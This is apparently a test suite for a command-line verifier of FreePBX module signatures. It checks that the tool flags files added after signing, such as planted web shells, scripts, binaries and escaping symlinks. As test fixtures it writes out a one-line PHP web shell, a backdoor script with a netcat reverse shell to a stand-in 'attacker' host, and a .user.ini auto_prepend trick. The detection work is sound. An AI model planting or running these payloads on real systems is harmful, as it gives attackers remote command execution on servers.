// Unlisted files on an installation built as a snapshot of a real host, verified with the CLI as a
// user runs it: what is code, what a known stock file is (by content, never by name), and that every
// place the walk cannot look into fails the module. One module per case, each asserted on its own.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmod, mkdir, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { ModuleReport, VerifyReport } from '../../src/index.js';
import { REASON } from '../../src/unlisted/policy.js';
import { STOCK_FILES } from '../../src/unlisted/stock-files.js';
import { absoluteLink, buildInstallation } from '../helpers/installation.js';
import { certified, makeKey } from '../helpers/keys.js';
import type { TestKey } from '../helpers/keys.js';
import { makeTempDir, sha256, writeFiles } from '../helpers/modules.js';
import { CLI } from '../helpers/paths.js';

const WEBROOT = '/var/www/html';
const MODULES = `${WEBROOT}/admin/modules`;
const SHELL = '<?php system($_GET["c"]);\n';
const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
const RUNNING_AS_ROOT = process.getuid?.() === 0;
const HAVE_SETPRIV = spawnSync('setpriv', ['--version']).status === 0;

let temp: string;
let root: string;
let anchor: TestKey;
let cleanup: () => Promise<void>;

function moduleFiles(name: string): Record<string, string> {
  return { 'module.xml': `<module><rawname>${name}</rawname></module>\n`, [`${name}.class.php`]: '<?php\n' };
}

before(async () => {
  const dir = await makeTempDir('pbxsig-unlisted-');
  temp = dir.path;
  cleanup = dir.remove;
  root = join(temp, 'snapshot');
  anchor = await makeKey('Unlisted Master', { rsa: true });
  const developer = await certified(anchor, await makeKey('FreePBX Mirror'));
  const names = ['clean', 'userini', 'uploads', 'escape', 'script', 'binary', 'locked', 'names', 'ucp'];
  const modules: Record<string, Record<string, string>> = {};
  for (const name of names) modules[name] = moduleFiles(name);
  modules['cdr'] = { ...moduleFiles('cdr'), 'ucp/Cdr.class.php': '<?php class Cdr {}\n' };
  const { modulesDir } = await buildInstallation(root, { anchor, developer, modules });
  const at = (module: string, path = ''): string => join(modulesDir, module, path);

  // Everything below is unlisted: written after signing.
  // framework: a web shell saved under a stock file's name, and one under a new name.
  await writeFiles(at('framework'), { 'utests/genaccts.php': SHELL, 'utests/EvilTest.php': SHELL });
  // clean: what a stock host holds beyond its manifests, and a mode-755 log (a note, not a failure).
  await writeFiles(at('clean'), {
    'i18n/de_DE/LC_MESSAGES/clean.po': 'msgid ""\n',
    '.gitattributes': '* text=auto\n',
    'node/node_modules/pm2/bin/pm2.sh': '#!/bin/sh\n',
    'assets/less/cache/lessphp_1.css': 'body{}\n',
    'debug.log': 'started\n',
  });
  await chmod(at('clean', 'debug.log'), 0o755);
  await writeFiles(at('userini'), { 'views/.user.ini': 'auto_prepend_file=/var/www/html/x.jpg\n' });
  // uploads: an absolute link, as installed hosts hold them, to a directory outside the module.
  await writeFiles(join(root, 'srv/uploads'), { 'shell.php': SHELL, 'photo.jpg': 'JFIF' });
  await absoluteLink(root, `${MODULES}/uploads/uploads`, '/srv/uploads');
  await symlink('../../../../../../../../../../..', at('escape', 'out'));
  await writeFiles(at('script'), { 'bin/backdoor': '#!/bin/sh\nnc -e /bin/sh attacker 4444\n' });
  await mkdir(at('binary', 'bin'), { recursive: true });
  await writeFile(at('binary', 'bin/tool'), ELF, { mode: 0o755 });
  await writeFiles(at('locked'), { 'private/readme.txt': 'x\n' });
  await writeFile(Buffer.from(`${at('names')}/sh\xff.php`, 'latin1'), SHELL);
  await writeFile(at('names', 'new\nline.php'), SHELL);
  // ucp: FreePBX links each module's ucp/ directory into htdocs/modules/<Name>.
  await absoluteLink(root, `${MODULES}/ucp/htdocs/modules/Cdr`, `${MODULES}/cdr/ucp`);

  // An unprivileged user must be able to reach the snapshot (mkdtemp makes the directory 0700).
  await chmod(temp, 0o755);
  await chmod(at('locked', 'private'), 0o000);
});

after(async () => {
  if (root) await chmod(join(root, MODULES, 'locked/private'), 0o755).catch(() => undefined);
  await cleanup();
});

function pbxsig(args: readonly string[], asNobody = false): { status: number; stdout: string; stderr: string } {
  const command = [process.execPath, CLI, 'verify', '--root', root, '--anchor', anchor.fingerprint, ...args];
  const [file, ...rest] = asNobody
    ? ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', ...command]
    : command;
  const r = spawnSync(file as string, rest, { encoding: 'utf8' });
  return { status: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

describe('pbxsig verify --root, on unlisted files', () => {
  let report: VerifyReport;
  let human: { status: number; stdout: string };
  before(() => {
    const r = pbxsig(['--json']);
    assert.equal(r.status, 1, r.stderr);
    report = JSON.parse(r.stdout) as VerifyReport;
    human = pbxsig([]);
  });

  function module(name: string): ModuleReport {
    const found = report.modules.find((m) => m.name === name);
    assert.ok(found, `module ${name} in the report`);
    return found;
  }

  it('verifies every module signature: what fails, fails on unlisted files alone', () => {
    for (const m of report.modules) assert.equal(m.verdict, 'verified', `${m.name}: ${m.summary}`);
  });

  it("fails a web shell saved under a stock file's name, naming its digest", () => {
    const framework = module('framework');
    assert.equal(framework.passed, false);
    assert.ok(STOCK_FILES.some((f) => f.module === 'framework' && f.path === 'utests/genaccts.php'));
    assert.deepEqual(
      framework.unlisted?.code.map((f) => [f.path, f.reason]),
      [
        ['utests/EvilTest.php', REASON.php],
        ['utests/genaccts.php', `${REASON.php}; not the content known for this path: sha256 ${sha256(SHELL)}`],
      ],
    );
    assert.deepEqual(framework.unlisted?.allowed, []);
  });

  it('passes what a stock host holds beyond its manifests, with a note for a mode-755 log', () => {
    const clean = module('clean');
    assert.equal(clean.passed, true, clean.summary);
    assert.deepEqual(clean.unlisted?.code, []);
    assert.deepEqual(clean.unlisted?.notWalked, []);
    assert.deepEqual(
      clean.unlisted?.notes.map((f) => [f.path, f.location]),
      [['debug.log', `${MODULES}/clean/debug.log`]],
    );
    assert.equal(clean.unlisted?.runtime, 2);
    assert.match(human.stdout, /^ok +clean /m);
    assert.match(human.stdout, /^ +note +debug\.log +\(execute bit set, but neither a script nor a binary\)$/m);
  });

  it('fails a .user.ini', () => {
    assert.deepEqual(
      module('userini').unlisted?.code.map((f) => [f.path, f.reason]),
      [['views/.user.ini', REASON.userIni]],
    );
    assert.equal(module('userini').passed, false);
  });

  it('follows a link to a directory outside the module, inside the snapshot, and fails the shell there', () => {
    const uploads = module('uploads');
    assert.equal(uploads.passed, false);
    assert.deepEqual(
      uploads.unlisted?.code.map((f) => [f.path, f.location]),
      [['uploads/shell.php', `${MODULES}/uploads/uploads/shell.php`]],
    );
    assert.deepEqual(uploads.unlisted?.links, [
      { path: 'uploads', target: join(root, 'srv/uploads'), outcome: 'walked' },
    ]);
    assert.match(human.stdout, /^FAIL uploads .*\n +unlisted +uploads\/shell\.php /m);
  });

  it('fails a link that leaves the snapshot, without following it', () => {
    const escape = module('escape');
    assert.equal(escape.passed, false);
    assert.deepEqual(
      escape.unlisted?.notWalked.map((f) => f.path),
      ['out'],
    );
    assert.match(escape.unlisted?.notWalked[0]?.reason ?? '', /leads above the root/);
    assert.match(escape.summary, /1 place could not be walked for unlisted files/);
    assert.match(human.stdout, /^ +unwalked +out +\(symbolic link that cannot be followed: /m);
  });

  it('fails a #! script without an extension and an ELF binary', () => {
    assert.deepEqual(
      module('script').unlisted?.code.map((f) => [f.path, f.reason]),
      [['bin/backdoor', REASON.shebang]],
    );
    assert.deepEqual(
      module('binary').unlisted?.code.map((f) => [f.path, f.reason]),
      [['bin/tool', REASON.elf]],
    );
  });

  it('keeps names exact in JSON: a newline as data, bytes that are not UTF-8 in pathHex', () => {
    const code = module('names').unlisted?.code ?? [];
    assert.deepEqual(code, [
      { path: 'new\nline.php', location: `${MODULES}/names/new\nline.php`, reason: REASON.php, sha256: sha256(SHELL) },
      {
        path: 'sh\uefff.php',
        location: `${MODULES}/names/sh\uefff.php`,
        reason: REASON.php,
        pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex'),
        sha256: sha256(SHELL),
      },
    ]);
  });

  it("leaves another module's directory, linked into ucp as FreePBX does, to that module", () => {
    assert.equal(module('ucp').passed, true, module('ucp').summary);
    assert.deepEqual(module('ucp').unlisted?.links, [
      { path: 'htdocs/modules/Cdr', target: join(root, MODULES, 'cdr/ucp'), outcome: 'module' },
    ]);
    assert.equal(module('cdr').passed, true);
  });

  it('counts the places not walked in the footer', () => {
    // As root the locked directory is readable; as another user it is one more place not walked.
    const places = RUNNING_AS_ROOT ? '1 place' : '2 places';
    assert.match(
      human.stdout,
      new RegExp(`modules in the installation at .* failed \\(8 unlisted code files, ${places} not walked`),
    );
  });
});

describe('pbxsig verify --root, on a directory it cannot read', () => {
  const skip = RUNNING_AS_ROOT
    ? HAVE_SETPRIV
      ? false
      : 'running as root without setpriv: cannot drop to an unprivileged user, and root reads every directory'
    : false;

  it('fails the module with that reason and exits 1, never passes with a note', { skip }, async () => {
    // The tree must be readable to that user except for the locked directory.
    assert.ok(((await stat(temp)).mode & 0o005) === 0o005);
    const r = pbxsig(['--module', 'locked', '--json'], RUNNING_AS_ROOT);
    assert.equal(r.status, 1, r.stderr);
    const locked = (JSON.parse(r.stdout) as VerifyReport).modules[0];
    assert.equal(locked?.verdict, 'verified', locked?.summary);
    assert.equal(locked?.passed, false);
    assert.deepEqual(
      locked?.unlisted?.notWalked.map((f) => f.path),
      ['private'],
    );
    assert.match(locked?.unlisted?.notWalked[0]?.reason ?? '', /^directory cannot be read: .*permission denied/i);
  });

  it(
    'passes the same module for a user who can read it (the directory holds nothing unlisted)',
    {
      skip: RUNNING_AS_ROOT ? false : 'not running as root: this user cannot read the locked directory',
    },
    () => {
      const r = pbxsig(['--module', 'locked']);
      assert.equal(r.status, 0, r.stdout + r.stderr);
    },
  );
});
